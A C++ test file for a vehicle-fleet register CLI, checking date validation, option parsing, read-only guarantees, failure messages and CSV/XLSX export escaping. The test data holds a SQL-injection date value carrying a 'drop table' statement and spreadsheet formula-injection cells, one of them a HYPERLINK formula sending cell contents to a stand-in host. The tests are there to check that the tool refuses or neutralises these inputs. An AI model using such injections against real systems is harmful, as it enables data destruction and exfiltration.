#include "clifixture.h"

#include "alerts/rules.h"
#include "cli/options.h"
#include "fees/feestatistics.h"
#include "store/failure.h"

#include <QCoreApplication>
#include <QTemporaryDir>

#ifndef SQLITE_HAS_CODEC
#define SQLITE_HAS_CODEC 1
#endif
#include <sqlite3.h>

using namespace Qt::StringLiterals;
using cli_test::CliTest;
using cli_test::Outcome;
using cli_test::Sha256;

namespace {

// ---- dates: exactly YYYY-MM-DD, anything else refused with the usage ------------------------

struct DateForm {
    const char* name;
    QString text;
};

const DateForm kBadDates[] = {
    {"Slashes", u"2026/01/01"_s},
    {"TrailingStatement", u"2026-01-01'; drop table 总表; --"_s},
    {"TrailingSpace", u"2026-01-01 "_s},
    {"LeadingSpace", u" 2026-01-01"_s},
    {"Empty", u""_s},
    {"ShortFields", u"2026-1-1"_s},
    {"NoDashes", u"20260101"_s},
    {"NoSuchDay", u"2026-02-30"_s},
    {"FullWidthDigits", u"２０２６-01-01"_s},
    {"WithTime", u"2026-01-01T00:00"_s},
    {"TrailingNewline", u"2026-01-01\n"_s},
};

// Each date option of each command, with the rest of a valid command line (%D is the data
// directory, which holds in.csv, a file import takes).
struct DateOption {
    const char* name;
    QStringList before, after; // the date goes between
};

const DateOption kDateOptions[] = {
    {"AlertsToday", {u"alerts"_s, u"--today"_s}, {u"--dry-run"_s}},
    {"ListToday", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s}, {}},
    {"ShowToday", {u"show"_s, u"京A001"_s, u"--today"_s}, {}},
    {"FeesFrom", {u"fees"_s, u"--to"_s, u"2026-12-31"_s, u"--from"_s}, {}},
    {"FeesTo", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s}, {}},
    {"ClaimsFrom", {u"claims"_s, u"--to"_s, u"2026-12-31"_s, u"--from"_s}, {}},
    {"ClaimsToInline", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to=%1"_s}, {}},
    {"ImportToday", {u"import"_s, u"%D/in.csv"_s, u"--dry-run"_s, u"--today"_s}, {}},
    {"NoticesToday", {u"notices"_s, u"--format"_s, u"csv"_s, u"--today"_s}, {}},
    {"CalendarToday", {u"calendar"_s, u"--today"_s}, {}},
};

class DateFormTest : public CliTest, public testing::WithParamInterface<std::tuple<DateOption, DateForm>> {};

QStringList withDate(const DateOption& option, const QString& date, const QString& dataDir) {
    QStringList args;
    for (const QString& word : option.before)
        args << QString(word).replace(u"%D"_s, dataDir);
    if (args.last().contains(u"%1"_s))
        args.last() = args.last().arg(date);
    else
        args << date;
    return args + option.after;
}

TEST_P(DateFormTest, RefusedWithTheUsage) {
    const auto& [option, form] = GetParam();
    EXPECT_FALSE(cli::StrictDate(form.text));
    const std::string before = Sha256(dbPath());
    const Outcome o = run(withDate(option, form.text, dataDir()));
    EXPECT_EQ(o.status, 2) << o.err.toStdString();
    EXPECT_TRUE(o.err.contains(u"YYYY-MM-DD"_s)) << o.err.toStdString();
    EXPECT_TRUE(o.err.contains(u"用法：velmora-cli "_s + option.before.first())) << o.err.toStdString();
    EXPECT_TRUE(o.out.isEmpty());
    EXPECT_EQ(Sha256(dbPath()), before);
}

INSTANTIATE_TEST_SUITE_P(OptionsAndForms, DateFormTest,
                         testing::Combine(testing::ValuesIn(kDateOptions), testing::ValuesIn(kBadDates)),
                         [](const testing::TestParamInfo<DateFormTest::ParamType>& p) {
                             return std::string(std::get<0>(p.param).name) + "_" + std::get<1>(p.param).name;
                         });

// The form the usage prints is taken, by every date option.
TEST_F(CliTest, EveryDateOptionTakesTheUsageForm) {
    QFile csv(QDir(dataDir()).filePath(u"in.csv"_s));
    ASSERT_TRUE(csv.open(QIODevice::WriteOnly));
    csv.write("主车牌号,档案编号\r\n京A077,77\r\n");
    csv.close();
    for (const DateOption& option : kDateOptions) {
        const Outcome o = run(withDate(option, u"2026-05-20"_s, dataDir()));
        EXPECT_EQ(o.status, 0) << option.name << o.err.toStdString();
    }
    EXPECT_EQ(cli::StrictDate(u"2024-02-29"_s), QDate(2024, 2, 29));
    EXPECT_EQ(cli::StrictDate(u"2023-02-29"_s), std::nullopt);
}

// ---- options: declared ones only, common ones everywhere -----------------------------------

struct CommandLine {
    const char* name;
    QStringList args; // %D is the data directory, %F a fresh folder
    int status;
};

const CommandLine kCommandLines[] = {
    {"InitUnknownOption", {u"init"_s, u"--bogus"_s, u"--data-dir"_s, u"%F"_s}, 2},
    {"InitArgument", {u"init"_s, u"extra"_s, u"--data-dir"_s, u"%F"_s}, 2},
    {"InitDataDirWithoutValue", {u"init"_s, u"--data-dir"_s}, 2},
    {"InitEmptyDataDir", {u"init"_s, u"--data-dir"_s, u""_s}, 2},
    {"AlertsUnknownOption", {u"alerts"_s, u"--dry-run"_s, u"--verbose"_s}, 2},
    {"AlertsFlagWithValue", {u"alerts"_s, u"--dry-run=yes"_s}, 2},
    {"AlertsTodayTwice", {u"alerts"_s, u"--today"_s, u"2026-05-01"_s, u"--today"_s, u"2026-06-01"_s}, 2},
    {"AlertsFormatNotAChoice", {u"alerts"_s, u"--format"_s, u"csv"_s}, 2},
    {"AlertsArgument", {u"alerts"_s, u"now"_s}, 2},
    {"ListOutputWithoutValue", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s}, 2},
    {"ListOutputTakesNoOption", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s, u"--format"_s, u"csv"_s}, 2},
    // "--" ends the options: it is no file name.
    {"ListOutputDoubleDash", {u"list"_s, u"公司车辆台账清单"_s, u"--output"_s, u"--"_s}, 2},
    {"ListOutputInlineDoubleDash", {u"list"_s, u"公司车辆台账清单"_s, u"--output=--"_s}, 2},
    {"ListTwoTitles", {u"list"_s, u"公司车辆台账清单"_s, u"拉黑车辆清单"_s}, 2},
    {"ListTitlesWithTitle", {u"list"_s, u"--titles"_s, u"拉黑车辆清单"_s}, 2},
    {"ListSingleDashOption", {u"list"_s, u"-x"_s, u"公司车辆台账清单"_s}, 2},
    {"FeesMissingTo", {u"fees"_s, u"--from"_s, u"2026-01-01"_s}, 2},
    {"FeesPlateWithoutValue", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--plate"_s}, 2},
    {"ClaimsClosedNotAChoice",
     {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--closed"_s, u"yes"_s},
     2},
    {"SearchTwoTexts", {u"search"_s, u"京A"_s, u"京B"_s}, 2},
    {"SearchByNotAChoice", {u"search"_s, u"--by"_s, u"colour"_s, u"京A"_s}, 2},
    {"ShowWithoutPlate", {u"show"_s}, 2},
    {"BackupWithoutTarget", {u"backup"_s}, 2},
    {"BackupTwoTargets", {u"backup"_s, u"%F/a.mdb"_s, u"%F/b.mdb"_s}, 2},
    {"UpgradeArgument", {u"upgrade"_s, u"now"_s}, 2},
    // Accepted: the common options with every command, in any place.
    {"InitDataDir", {u"init"_s, u"--data-dir"_s, u"%F"_s}, 0},
    {"InitDatabaseFile", {u"init"_s, u"--database"_s, u"%F/named.mdb"_s}, 0},
    {"ListTitlesDataDir", {u"list"_s, u"--titles"_s, u"--data-dir"_s, u"%D"_s}, 0},
    {"ListDataDirFirst",
     {u"list"_s, u"--data-dir=%D"_s, u"公司车辆台账清单"_s, u"--format"_s, u"csv"_s, u"--today"_s, u"2026-03-01"_s},
     0},
    {"AlertsDatabaseFile", {u"alerts"_s, u"--dry-run"_s, u"--database"_s, u"%D/clxx.mdb"_s}, 0},
    {"SearchDataDir", {u"search"_s, u"--data-dir"_s, u"%D"_s, u"--by"_s, u"owner"_s, u"张"_s}, 0},
    {"SearchTextAfterDashes", {u"search"_s, u"--by"_s, u"owner"_s, u"--"_s, u"-张"_s}, 0},
    {"ShowDatabase", {u"show"_s, u"--database"_s, u"%D/clxx.mdb"_s, u"京A001"_s}, 0},
    {"FeesDataDir", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--data-dir"_s, u"%D"_s}, 0},
    {"ClaimsDatabase",
     {u"claims"_s, u"--database"_s, u"%D/clxx.mdb"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s},
     0},
    {"BackupDataDir", {u"backup"_s, u"%F/copy.mdb"_s, u"--data-dir"_s, u"%D"_s}, 0},
    {"UpgradeDatabase", {u"upgrade"_s, u"--database"_s, u"%D/clxx.mdb"_s}, 0},
    {"HelpWinsAnywhere", {u"fees"_s, u"--bogus"_s, u"--help"_s}, 0},
    // A server that cannot be reached fails with the reason, never quietly the file; an address
    // of another kind is refused.
    {"DatabaseServerUrl", {u"alerts"_s, u"--database"_s, u"postgresql://clerk@server.invalid/velmora"_s}, 1},
    {"DatabaseSettings", {u"list"_s, u"--titles"_s, u"--database"_s, u"host=server.invalid dbname=velmora"_s}, 0},
    {"DatabaseSettingsFees",
     {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s, u"--database"_s, u"host=server.invalid"_s},
     1},
    {"InitServerUrl", {u"init"_s, u"--database"_s, u"postgres://server.invalid/velmora"_s}, 1},
    {"DatabaseOtherScheme", {u"alerts"_s, u"--database"_s, u"mysql://server/velmora"_s}, 1},
};

class CommandLineTest : public CliTest, public testing::WithParamInterface<CommandLine> {};

TEST_P(CommandLineTest, DeclaredOptionsOnly) {
    const CommandLine& line = GetParam();
    QTemporaryDir fresh;
    ASSERT_TRUE(fresh.isValid());
    QStringList args;
    for (QString a : line.args)
        args << a.replace(u"%D"_s, dataDir()).replace(u"%F"_s, fresh.path());
    const std::string before = Sha256(dbPath());
    const QStringList programFolder = QDir(QCoreApplication::applicationDirPath()).entryList(QDir::Files);
    const Outcome o = run(args);
    EXPECT_EQ(o.status, line.status) << o.err.toStdString();
    if (line.status == 2) {
        EXPECT_TRUE(o.err.contains(u"用法：velmora-cli "_s + args.first())) << o.err.toStdString();
        EXPECT_TRUE(QDir(fresh.path()).isEmpty()) << "a refused command wrote";
    }
    if (line.status == 1) {
        const bool server = args.join(u' ').contains(u"server.invalid"_s);
        EXPECT_TRUE(o.err.contains(server ? u"无法连接数据库服务器"_s : u"不支持的数据库地址"_s))
            << o.err.toStdString();
    }
    if (QString::fromLatin1(line.name).startsWith(u"Init"_s) && line.status == 0) {
        EXPECT_EQ(QDir(fresh.path()).entryList(QDir::Files).size(), 1);
    }
    // Nothing lands in the program's folder, whatever the outcome.
    EXPECT_EQ(QDir(QCoreApplication::applicationDirPath()).entryList(QDir::Files), programFolder);
    if (args.first() != u"upgrade"_s) {
        EXPECT_EQ(Sha256(dbPath()), before);
    }
}

INSTANTIATE_TEST_SUITE_P(Commands, CommandLineTest, testing::ValuesIn(kCommandLines),
                         [](const testing::TestParamInfo<CommandLine>& p) { return std::string(p.param.name); });

// ---- read-only: the reading commands and a dry run never change the file --------------------

struct Reader {
    const char* name;
    QStringList args;
    const char* stdoutHas;
    bool asAfterRefresh; // prints what it prints on the same file after the day's refresh
};

// The day of the fixture's due lapse flag (京A001's inspection three months overdue).
const QString kFlagDay = u"2026-05-20"_s;

const Reader kReaders[] = {
    {"AlertsDryRunFuture", {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2027-01-15"_s}, "拉黑车辆", true},
    {"ListFuture", {u"list"_s, u"公司车辆台账清单"_s, u"--today"_s, u"2027-01-15"_s}, "京A002", true},
    // The blacklist list shows the lapse flags: the refresh's flags count as set without being written.
    {"ListLapseFlags", {u"list"_s, u"拉黑车辆清单"_s, u"--today"_s, kFlagDay, u"--format"_s, u"csv"_s}, "拉黑", true},
    {"Fees", {u"fees"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "\"rows\"", true},
    {"Claims", {u"claims"_s, u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-12-31"_s}, "张三", true},
    {"Search", {u"search"_s, u"--by"_s, u"owner"_s, u"张"_s}, "京A001", true},
    // show prints the record as stored, flags included.
    {"Show", {u"show"_s, u"京A001"_s}, "下次审车日期", false},
};

class ReadOnlyTest : public CliTest, public testing::WithParamInterface<Reader> {};

// On a file where the day's refresh would write lapse flags (shown by a copy that the writing
// refresh changes), each leaves the file byte-identical and prints what it prints on the
// refreshed copy; so on the same file made read-only in a read-only folder, run by a user who
// cannot write it, where each still succeeds.
TEST_P(ReadOnlyTest, FileStaysByteIdentical) {
    const Reader& reader = GetParam();
    const std::string before = Sha256(dbPath());
    const QStringList folderBefore = QDir(dataDir()).entryList(QDir::Files);
    QTemporaryDir copyDir;
    ASSERT_TRUE(copyDir.isValid());
    const QString refreshed = QDir(copyDir.path()).filePath(u"refreshed.mdb"_s);
    ASSERT_TRUE(QFile::copy(dbPath(), refreshed));
    ASSERT_EQ(run({u"alerts"_s, u"--today"_s, kFlagDay, u"--database"_s, refreshed}).status, 0);
    ASSERT_NE(Sha256(refreshed), before) << "the refresh had nothing to write";
    const Outcome onRefreshed = runChild(reader.args + QStringList{u"--database"_s, refreshed});
    ASSERT_EQ(onRefreshed.status, 0) << onRefreshed.err.toStdString();

    const Outcome onWritable = runChild(reader.args);
    EXPECT_EQ(onWritable.status, 0) << onWritable.err.toStdString();
    EXPECT_TRUE(onWritable.out.contains(QString::fromUtf8(reader.stdoutHas))) << onWritable.out.toStdString();
    EXPECT_EQ(Sha256(dbPath()), before);
    if (reader.asAfterRefresh) {
        EXPECT_EQ(onWritable.out, onRefreshed.out);
    }

    const auto readable = QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther;
    const auto enterable = readable | QFileDevice::ExeOwner | QFileDevice::ExeGroup | QFileDevice::ExeOther;
    ASSERT_TRUE(QFile::setPermissions(dbPath(), readable));
    ASSERT_TRUE(QFile::setPermissions(dataDir(), enterable));
    const Outcome onReadOnly = runChild(reader.args, true);
    QFile::setPermissions(dataDir(), enterable | QFileDevice::WriteOwner);
    QFile::setPermissions(dbPath(), readable | QFileDevice::WriteOwner);
    EXPECT_EQ(onReadOnly.status, 0) << onReadOnly.err.toStdString();
    EXPECT_EQ(onReadOnly.out, onWritable.out);
    EXPECT_EQ(Sha256(dbPath()), before);
    EXPECT_EQ(QDir(dataDir()).entryList(QDir::Files), folderBefore);
}

INSTANTIATE_TEST_SUITE_P(Readers, ReadOnlyTest, testing::ValuesIn(kReaders),
                         [](const testing::TestParamInfo<Reader>& p) { return std::string(p.param.name); });

// A dry run prints the tree the refresh would write, from a read-only copy elsewhere too.
TEST_F(CliTest, DryRunOnAReadOnlyCopyShowsTheSameTree) {
    const Outcome live = run({u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2026-05-20"_s, u"--format"_s, u"json"_s});
    ASSERT_EQ(live.status, 0) << live.err.toStdString();
    QTemporaryDir copyDir;
    const QString copy = QDir(copyDir.path()).filePath(u"copy.mdb"_s);
    ASSERT_TRUE(QFile::copy(dbPath(), copy));
    ASSERT_TRUE(QFile::setPermissions(copy, QFileDevice::ReadOwner));
    const std::string before = Sha256(copy);
    const Outcome o = run(
        {u"alerts"_s, u"--dry-run"_s, u"--today"_s, u"2026-05-20"_s, u"--format"_s, u"json"_s, u"--database"_s, copy});
    EXPECT_EQ(o.status, 0) << o.err.toStdString();
    EXPECT_EQ(o.out, live.out);
    EXPECT_TRUE(o.out.contains(u"京A001"_s));
    EXPECT_EQ(Sha256(copy), before);
    EXPECT_EQ(QDir(copyDir.path()).entryList(QDir::Files), QStringList{u"copy.mdb"_s});
}

// ---- the reason of a failed flag write -----------------------------------------------------

struct FailureCase {
    const char* name;
    int code;
    store::FailureKind kind;
    const char* notice;
};

const FailureCase kFailures[] = {
    {"Busy", SQLITE_BUSY, store::FailureKind::Busy, "预警标记写入失败：数据库正忙，请稍后刷新。"},
    {"Locked", SQLITE_LOCKED, store::FailureKind::Busy, "预警标记写入失败：数据库正忙，请稍后刷新。"},
    {"ReadOnly", SQLITE_READONLY, store::FailureKind::ReadOnly, "预警标记写入失败：数据库文件只读。"},
    {"JournalNotMade", SQLITE_CANTOPEN, store::FailureKind::ReadOnly, "预警标记写入失败：数据库文件只读。"},
    {"Full", SQLITE_FULL, store::FailureKind::DiskFull, "预警标记写入失败：磁盘已满。"},
    {"Corrupt", SQLITE_CORRUPT, store::FailureKind::Corrupt, "预警标记写入失败：数据库文件损坏。"},
    {"NotADatabase", SQLITE_NOTADB, store::FailureKind::Corrupt, "预警标记写入失败：数据库文件损坏。"},
    {"IoErrorWrite", SQLITE_IOERR_WRITE, store::FailureKind::IoError, "预警标记写入失败：读写数据库文件出错。"},
    {"Other", SQLITE_CONSTRAINT, store::FailureKind::Other, "预警标记写入失败：constraint failed"},
};

class FailureReasonTest : public testing::TestWithParam<FailureCase> {};

TEST_P(FailureReasonTest, NamesTheCause) {
    const FailureCase& c = GetParam();
    EXPECT_EQ(store::FailureKindOfSqliteCode(c.code), c.kind);
    EXPECT_EQ(alerts::FlagWriteFailedMessage(c.kind, QString::fromUtf8(sqlite3_errstr(c.code))),
              QString::fromUtf8(c.notice));
}

INSTANTIATE_TEST_SUITE_P(SqliteCodes, FailureReasonTest, testing::ValuesIn(kFailures),
                         [](const testing::TestParamInfo<FailureCase>& p) { return std::string(p.param.name); });

// The real causes, through velmora-cli as the operator meets them: a read-only file, a full disk
// (a file-size limit on the child), and a held lock; only the last one says busy.
TEST_F(CliTest, FlagWriteFailureSaysWhy) {
    const QStringList args = {u"alerts"_s, u"--today"_s, u"2026-05-20"_s};
    const std::string before = Sha256(dbPath());

    const auto readable = QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther;
    const auto folder = QFile::permissions(dataDir());
    ASSERT_TRUE(QFile::setPermissions(dbPath(), readable));
    ASSERT_TRUE(QFile::setPermissions(dataDir(), folder | QFileDevice::ExeOther | QFileDevice::ReadOther));
    const Outcome readOnly = runChild(args, true);
    QFile::setPermissions(dbPath(), readable | QFileDevice::WriteOwner);
    QFile::setPermissions(dataDir(), folder);
    EXPECT_EQ(readOnly.status, 1);
    EXPECT_TRUE(readOnly.err.contains(u"预警标记写入失败：数据库文件只读。"_s)) << readOnly.err.toStdString();

    // A full disk: the file on a small file system with no block left (where this process may
    // mount one; else a limit on the size of files the child may write, which SQLite meets as an
    // I/O error). The journal fails before the file is touched.
    cli_test::SmallDisk disk;
    if (disk.mounted()) {
        const QString onDisk = disk.path() + u"/clxx.mdb"_s;
        ASSERT_TRUE(QFile::copy(dbPath(), onDisk));
        disk.fill();
        const Outcome full = runChild(args + QStringList{u"--database"_s, onDisk});
        EXPECT_EQ(full.status, 1);
        EXPECT_TRUE(full.err.contains(u"预警标记写入失败：磁盘已满。"_s)) << full.err.toStdString();
        EXPECT_EQ(Sha256(onDisk), before);
    } else {
        const Outcome limited = runChild(args, false, u"ulimit -f 9; trap '' XFSZ"_s);
        EXPECT_EQ(limited.status, 1);
        EXPECT_TRUE(limited.err.contains(u"预警标记写入失败：读写数据库文件出错。"_s)) << limited.err.toStdString();
        EXPECT_FALSE(limited.err.contains(u"正忙"_s));
    }

    sqlite3* holder = nullptr;
    ASSERT_EQ(sqlite3_open_v2(QFile::encodeName(dbPath()).constData(), &holder, SQLITE_OPEN_READWRITE, nullptr),
              SQLITE_OK);
    const QByteArray key = store::kDatabasePassword.toUtf8();
    sqlite3_key(holder, key.constData(), int(key.size()));
    ASSERT_EQ(sqlite3_exec(holder, "BEGIN IMMEDIATE", nullptr, nullptr, nullptr), SQLITE_OK);
    store::DatabaseConnection db;
    ASSERT_TRUE(db.OpenDatabaseFile(dbPath(), store::kDatabasePassword, store::ConnectionSharing::Private));
    db.SetBusyTimeout(100);
    const alerts::AlertResult busy = alerts::ComputeAlerts(db, QDate(2026, 5, 1));
    sqlite3_exec(holder, "ROLLBACK", nullptr, nullptr, nullptr);
    sqlite3_close(holder);
    EXPECT_EQ(busy.messages, QStringList{alerts::kFlagWriteFailedMessage});
    EXPECT_EQ(busy.flagWriteFailure, store::FailureKind::Busy);
}

// ---- CSV cells that a spreadsheet would run as formulas ------------------------------------

struct FormulaCase {
    const char* name;
    const char* field; // which claim field holds the text, or "fee": the due amount of a payment
    QString text;
    QString csv;   // the CSV field written
    char xlsxType; // how openpyxl reads the cell back: 's' a string, 'n' a number
};

const FormulaCase kFormulas[] = {
    {"EqualsInOwner", "owner", u"=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"_s,
     u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\""_s, 's'},
    {"MinusInPlate", "plate", u"-2+3"_s, u"'-2+3"_s, 's'},
    {"AtInRemarks", "remarks", u"@x"_s, u"'@x"_s, 's'},
    {"PlusInPhone", "phone", u"+86 138"_s, u"'+86 138"_s, 's'},
    {"TabInRemarks", "remarks", u"\tcmd"_s, u"'\tcmd"_s, 's'},
    {"CarriageReturnInRemarks", "remarks", u"\r=1+1"_s, u"\"'\r=1+1\""_s, 's'},
    {"FormulaTypedAsAmount", "amount", u"=1+1"_s, u"'=1+1"_s, 's'},
    {"NegativeAmountIsANumber", "amount", u"-50"_s, u"-50"_s, 'n'},
    {"PlainText", "remarks", u"已赔付"_s, u"已赔付"_s, 's'},
    {"MinusInside", "remarks", u"a-b"_s, u"a-b"_s, 's'},
    // Fee amounts read as numbers even with a sign or blanks around them; only the plain form
    // goes out unguarded.
    {"PlusInFee", "fee", u"+5"_s, u"'+5"_s, 's'},
    {"TabInFee", "fee", u"\t5"_s, u"'\t5"_s, 's'},
    {"FormulaInFee", "fee", u"=1+1"_s, u"'=1+1"_s, 's'},
    {"NegativeFeeIsANumber", "fee", u"-5"_s, u"-5"_s, 'n'},
};

// The type openpyxl gives each cell whose value reads as text (a number in %g form; a carriage
// return, which the workbook holds escaped and openpyxl leaves so, as itself).
QStringList xlsxTypesOf(const QString& path, const QString& text) {
    const QString script = uR"(
import sys, openpyxl
for row in openpyxl.load_workbook(sys.argv[1]).active.iter_rows():
    for c in row:
        v = c.value
        if v is not None and (v.replace('_x000D_', '\r') if isinstance(v, str) else '%g' % v) == sys.argv[2]:
            print(c.data_type)
)"_s;
    QProcess p;
    p.start(u"/usr/bin/python3"_s, {u"-c"_s, script, path, text});
    if (!p.waitForFinished(60000) || p.exitCode() != 0)
        return {u"python3 failed: "_s + QString::fromUtf8(p.readAllStandardError())};
    return QString::fromUtf8(p.readAllStandardOutput()).split(u'\n', Qt::SkipEmptyParts);
}

class FormulaTest : public CliTest, public testing::WithParamInterface<FormulaCase> {};

TEST_P(FormulaTest, CsvNeutralisesFormulaStarts) {
    const FormulaCase& f = GetParam();
    const QString field = QString::fromLatin1(f.field);
    const QString day = u"2026-04-01"_s;
    QString plate = u"京A009"_s;
    QString command = u"claims"_s;
    if (field == u"fee"_s) {
        plate = u"京A12345"_s; // fees takes a whole plate
        alerts_test::Fleet fleet(db());
        fleet.vehicle(plate);
        const fees::FeeKind& kind = fees::Kind(0);
        fleet.row(plate, {{u"审车车号"_s, plate},
                          {kind.dueColumn, f.text},
                          {kind.paidColumn, u"1"_s},
                          {kind.dateColumn, QDate(2026, 4, 1)}});
        command = u"fees"_s;
    } else {
        claims::Claim c = newClaim(day, plate, u"李四"_s, u"100"_s);
        (field == u"owner"_s    ? c.owner
         : field == u"plate"_s  ? c.plate
         : field == u"phone"_s  ? c.phone
         : field == u"amount"_s ? c.amount
                                : c.remarks) = f.text;
        claim(c);
        plate = c.plate;
    }
    const QStringList query = {command, u"--from"_s, day, u"--to"_s, day, u"--plate"_s, plate};
    const Outcome o = run(query + QStringList{u"--format"_s, u"csv"_s});
    ASSERT_EQ(o.status, 0) << o.err.toStdString();
    const QStringList lines = o.out.split(u"\r\n"_s);
    ASSERT_GE(lines.size(), 2) << o.out.toStdString();
    bool found = false;
    for (const QString& line : lines.mid(1))
        found = found || (u","_s + line + u","_s).contains(u","_s + f.csv + u","_s);
    EXPECT_TRUE(found) << o.out.toStdString() << " / " << f.csv.toStdString();
    // JSON keeps the text as it is.
    const Outcome json = run(query);
    EXPECT_FALSE(json.out.contains(u"\"'"_s)) << json.out.toStdString();
    // A workbook holds the text as a string, never as a formula; a number as a number.
    const QString book = QDir(dataDir()).filePath(u"formula.xlsx"_s);
    const Outcome xlsx = run(query + QStringList{u"--format"_s, u"xlsx"_s, u"--output"_s, book});
    ASSERT_EQ(xlsx.status, 0) << xlsx.err.toStdString();
    const QStringList types = xlsxTypesOf(book, f.text);
    ASSERT_FALSE(types.isEmpty()) << "the cell is missing";
    for (const QString& type : types)
        EXPECT_EQ(type, QString(QLatin1Char(f.xlsxType))) << f.text.toStdString();
}

INSTANTIATE_TEST_SUITE_P(Prefixes, FormulaTest, testing::ValuesIn(kFormulas),
                         [](const testing::TestParamInfo<FormulaCase>& p) { return std::string(p.param.name); });

// Under cron or su the environment may name no user or another one; standard error then holds only
// the command's own messages, whichever account runs it.
TEST_F(CliTest, StandardErrorHoldsNoToolkitNoiseWithoutAUserName) {
    for (const bool unprivileged : {false, true}) {
        const Outcome o = runChild({u"list"_s, u"--titles"_s}, unprivileged, u"unset USER"_s);
        EXPECT_EQ(o.status, 0) << o.err.toStdString();
        EXPECT_EQ(o.err.toStdString(), "") << (unprivileged ? "as nobody" : "as this user");
        const Outcome other = runChild({u"list"_s, u"--titles"_s}, unprivileged, u"export USER=someone-else"_s);
        EXPECT_EQ(other.err.toStdString(), "") << (unprivileged ? "as nobody" : "as this user");
    }
}

} // namespace
